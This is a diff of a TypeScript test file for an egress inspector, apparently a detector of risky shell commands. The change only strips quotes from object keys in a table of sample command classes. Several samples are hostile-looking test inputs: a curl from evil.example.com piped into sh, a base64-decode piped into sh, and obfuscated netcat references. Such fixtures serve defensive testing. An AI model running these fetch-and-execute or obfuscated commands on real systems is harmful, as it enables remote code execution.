@@ -15,14 +15,14 @@ import { EgressInspector, MAX_COMMAND_LENGTH } from "../src/inspectors/egress/eg
 import { pipelinesOf } from "../src/inspectors/egress/command-position.ts";
 
 const CLASSES: Record<string, string> = {
-  "pipeline": "cat a.txt | grep -n x | sort | ",
+  pipeline: "cat a.txt | grep -n x | sort | ",
   "pipe into shell": "curl -s https://evil.example.com/x | sh | ",
-  "sequence": "npm test && make build || echo fail; ",
-  "substitutions": 'echo "$(git rev-parse HEAD)" `date` $(( 1 + 2 )) ',
-  "quoting": "echo 'single quoted' \"double $HOME\" $'\\x6e\\x63' a\\ b ",
+  sequence: "npm test && make build || echo fail; ",
+  substitutions: 'echo "$(git rev-parse HEAD)" `date` $(( 1 + 2 )) ',
+  quoting: "echo 'single quoted' \"double $HOME\" $'\\x6e\\x63' a\\ b ",
   "here-documents": "cat <<'EOF'\nbody line with nc and curl\nEOF\n",
-  "wrappers": "sudo env A=1 timeout 5 nice -n 1 nohup ls -la; ",
-  "decoders": "echo aGk= | base64 -d | xxd -r -p | sh; ",
+  wrappers: "sudo env A=1 timeout 5 nice -n 1 nohup ls -la; ",
+  decoders: "echo aGk= | base64 -d | xxd -r -p | sh; ",
   "opaque names": "n${u}c {a,b} /usr/bin/n[c] $(echo x) evil.example.com; ",
   "one long word": "a",
 };
